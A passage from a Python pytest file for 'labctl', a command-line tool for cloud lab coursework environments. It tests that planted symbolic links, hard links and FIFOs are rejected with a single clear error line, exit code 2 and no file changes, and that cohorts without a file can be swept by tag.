    case("validate content FIFO", f"validate demo-tools --environments {E}",
         r"labs/beanstalk/coursework/pipe: a FIFO is not allowed", planted("beanstalk/coursework/pipe", "fifo")),
    case("up emulated content hard link", f"up demo-app-a03 --emulate --environments {E}",
         r"labs/object-storage/index.html: a hard link \(one of 2 names of the same file\) is not allowed",
         planted("object-storage/index.html", "hardlink")),
    case("preview content link in a build context", f"preview demo-tools-t04 --self --environments {E}",
         r"labs/containers/my-nginx/Dockerfile: a symbolic link is not allowed", planted("containers/my-nginx/Dockerfile")),
    case("reach content link", f"reach demo-app-a03 internet VM1 --port 80 --environments {E}",
         r"labs/object-storage/error.html: a symbolic link is not allowed", planted("object-storage/error.html")),
    case("drift content link", f"drift demo-app --environments {E} --emulate",
         r"labs/object-storage/site2.html: a symbolic link is not allowed", planted("object-storage/site2.html")),

]


def test_the_corpus_is_large_and_every_id_unique():
    assert len(CASES) >= 100
    assert len({c.id for c in CASES}) == len(CASES)
    commands = {c.argv[0] for c in CASES if c.argv}
    assert commands >= {"plan", "cost", "check", "reach", "diff", "sync", "up", "preview", "refresh", "destroy", "stop",
                        "start", "sweep", "expired", "labs"}


def test_a_cohort_whose_file_is_gone_is_swept_by_its_tags_in_the_region_given(sandbox, capsys):
    """Not bad input: a cohort file removed after the semester must not strand what still costs
    money, so sweep takes a cohort without a file when --region says where to look (without it,
    exit 2). A typo would find nothing, so the run says what it trusts in a note."""
    code = main(["sweep", "fall25", "--region", "us-east-1", "--emulate", "--environments", str(sandbox.env)])
    out, err = capsys.readouterr()
    assert code == 0 and "nothing left" in out, err
    assert err.strip() == (f"labctl: note: no cohort file {sandbox.env}/fall25.yaml: sweeping what is tagged "
                           "cloudlabs:cohort=fall25 in us-east-1")
    assert sandbox.runner.calls == []  # type: ignore[attr-defined]


@pytest.fixture(scope="module")
def checkout_before() -> dict[str, str]:
    return tree_state(REPO_ROOT)


@pytest.mark.parametrize("bad", CASES, ids=[c.id for c in CASES])
def test_bad_input_is_one_clear_line_exit_2_and_nothing_changes(bad, sandbox, capsys, checkout_before):
    if bad.prepare:
        bad.prepare(sandbox)
    if "price" in bad.id or "prices" in bad.id:
        pricing._load_prices.cache_clear()
    before = tree_state(sandbox.root)
    argv = [a.replace("{env}", str(sandbox.env)).replace("{root}", str(sandbox.root)) for a in bad.argv]
    try:
        code = main(argv)
    except SystemExit as exit_:  # argparse
        code = exit_.code
    out, err = capsys.readouterr()
    lines = err.strip().splitlines()
    assert code == 2, f"exit {code}\nstdout: {out}\nstderr: {err}"
    assert "Traceback" not in err + out
    assert len(lines) == bad.lines, err
    assert re.search(bad.message, lines[0]), lines[0]
    assert tree_state(sandbox.root) == before, "a file changed in the sandbox"
    assert tree_state(REPO_ROOT) == checkout_before, "a file changed in the checkout"
    assert sandbox.runner.calls == []  # type: ignore[attr-defined]
